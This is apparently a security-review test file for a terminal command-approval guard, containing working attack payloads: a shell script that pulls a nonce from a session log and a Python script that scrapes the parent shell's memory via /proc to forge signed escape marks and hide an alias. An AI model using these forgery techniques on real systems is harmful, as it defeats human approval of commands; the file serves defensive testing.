/**
 * Review 2: the rotating nonce and the phase machine (shell-marks.ts, shell-tracker.ts)
 * against a program the approved command runs. The first review's forgers waited for the
 * next prompt and used the first nonce they found; these use the nonce of the command they
 * run in, and forge the rest of the cycle (D, names, A) while it is still running.
 * `it.fails` marks an attack that works on the current code.
 */
import { afterEach, describe, expect, it } from 'vitest'
import {
  SHELLS,
  eventually,
  guardedShell,
  hasProgram,
  ptraceParentAllowed,
  type Guarded,
} from '../review/review-fixture'

/** 32 hex digits the forger picks as "the next nonce": from then on the host believes only it. */
const ATTACKER_NONCE = 'a'.repeat(32)

/**
 * Forges the end of the running command's cycle with nonce $1: it ended (exit 0), no alias
 * and no function, a prompt, and "the next nonce is the attacker's". Marks go to the terminal.
 */
const FORGE_CYCLE = String.raw`forge() {
  printf '\033]6973;%s;D;0\007\033]6973;%s;names;alias=;function=\007\033]6973;%s;A;next=${ATTACKER_NONCE}\007' "$1" "$1" "$1" >/dev/tty
}
`

/**
 * A "report" that reads the session log kept with tee: its last 32-hex string is the nonce
 * the running command's cycle is signed with (bash: the prompt's `A;next=`; zsh: the C mark).
 */
const FROM_SESSION_LOG = `#!/bin/sh
${FORGE_CYCLE}
forge "$(grep -ao '[0-9a-f]\\{32\\}' session.log | tail -n 1)"
echo report ok
`

/** "Diagnostics" that read the shell's heap and forge the cycle with every 32-hex candidate. */
const FROM_SHELL_MEMORY = String.raw`import os, re
pid = os.getppid()
found = []
for line in open('/proc/%d/maps' % pid):
    parts = line.split()
    if not parts[1].startswith('rw') or (len(parts) > 5 and parts[5] != '[heap]'):
        continue
    start, end = (int(x, 16) for x in parts[0].split('-'))
    try:
        with open('/proc/%d/mem' % pid, 'rb') as mem:
            mem.seek(start)
            found += re.findall(rb'(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])', mem.read(end - start))
    except OSError:
        continue
with open('/dev/tty', 'wb') as tty:
    for n in dict.fromkeys(found):
        tty.write(b'\x1b]6973;' + n + b';D;0\x07\x1b]6973;' + n + b';names;alias=;function=\x07'
                  + b'\x1b]6973;' + n + b';A;next=' + b'a' * 32 + b'\x07')
print('diagnostics ok')
`

/** Proposes `ls` (then withdraws it): whether the room is told it is this kind of word. */
async function lsShownAs(g: Guarded, kind: 'alias' | 'command'): Promise<boolean> {
  const p = await g.h.leader.call('gate.propose', {
    sessionId: g.sessionId,
    text: 'ls',
    proposerId: 'bob',
  })
  await g.h.leader.call('gate.withdraw', { sessionId: g.sessionId, proposalId: p.id })
  return p.context.firstWordKind === kind
}

for (const shell of SHELLS) {
  describe(`the nonce of the running command on ${shell.name}`, () => {
    let g: Guarded
    afterEach(() => g?.h.host.dispose())

    // FINDING (high; fixed: two keys per command — the one printed as a command starts signs
    // only that mark; the end, the reports and the prompt use another, never printed before
    // the command ended — and the next pair goes to the host through a 0600 file named in
    // the prompt mark, never through the terminal, so a session log holds only spent keys):
    // rotating the nonce at every prompt did not make a session log
    // harmless: the log holds the prompt mark `A;next=N`, and N is the nonce the shell signs
    // the NEXT command's cycle with. A script approved as "print the report" reads it and,
    // while it runs (its place in the cycle: after C), forges D (the phase machine believes
    // it: right nonce, right place), then names (hiding the alias), then A with a next nonce
    // of its choosing: the host now believes only the attacker, every real mark after it is
    // "forged", and `ls` is shown, hashed and approved as a plain command while it is an
    // alias. The log also records the script as finished (exit 0) while it still runs.
    // Should hold: a mark the shell did not print is never believed. Fix: do not print the
    // next nonce where output can be logged (hand it over out of band: the shell writes it
    // to a 0600 file / fd the host reads, as for the first nonce), or derive the next nonce
    // from one the host holds (HMAC(secret, counter) with the secret never printed), and in
    // shell-tracker.ts believe D only once the OS says the command's job has left the
    // foreground (foreground() === 'shell').
    it('a script cannot forge the rest of its own cycle with the nonce from a session log', async () => {
      g = await guardedShell(shell, {
        homeFiles: { [shell.rc]: "alias ls='touch alias_X'\n" },
      })
      expect(await lsShownAs(g, 'alias')).toBe(true)
      await g.runToEnd('exec > >(tee -a session.log)')
      g.put('report.sh', FROM_SESSION_LOG, 0o755)
      const p = await g.h.runApproved(g.sessionId, './report.sh')
      await g.h.finished(p.id)
      expect(await eventually(() => lsShownAs(g, 'command'), 5_000)).toBe(false)
    })

    // FINDING (high, same mechanism without a log; a documented limit: a program running as
    // the same user reads the shell's memory where the kernel lets it — no Yama ptrace
    // restriction here; Debian and Ubuntu set kernel.yama.ptrace_scope=1, which stops it):
    // the current end key is in the shell's
    // memory (same user, no Yama ptrace restriction), and forging during the run makes its
    // rotation irrelevant. The first review's /proc/$PPID/mem attack is defended only
    // because it forged after the prompt. Fix: as above; and PR_SET_DUMPABLE cannot be set
    // from a shell, so the nonce must not be enough on its own.
    it.skipIf(!ptraceParentAllowed() || !hasProgram('python3')).fails(
      'a program cannot read the nonce from the shell’s memory and forge its own cycle',
      async () => {
        g = await guardedShell(shell, {
          homeFiles: { [shell.rc]: "alias ls='touch alias_X'\n" },
        })
        expect(await lsShownAs(g, 'alias')).toBe(true)
        g.put('diag.py', FROM_SHELL_MEMORY)
        const p = await g.h.runApproved(g.sessionId, 'python3 ./diag.py')
        await g.h.finished(p.id)
        expect(await eventually(() => lsShownAs(g, 'command'), 5_000)).toBe(false)
      },
    )
  })
}
